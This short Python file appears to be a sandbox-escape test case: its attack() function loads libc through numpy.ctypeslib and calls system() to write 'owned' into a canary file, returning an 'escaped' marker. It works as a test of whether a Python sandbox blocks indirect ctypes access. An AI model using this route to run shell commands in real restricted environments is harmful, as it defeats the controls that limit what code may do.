"""Takes ctypes from numpy, and the C library from ctypes."""
import numpy


def attack(canary):
    data = numpy.array([1])
    pointer = data.ctypes
    library = numpy.ctypeslib.load_library("libc.so.6", "/lib/x86_64-linux-gnu")
    library.system(("echo owned > " + canary["file"]).encode())
    return "escaped " + str(pointer)
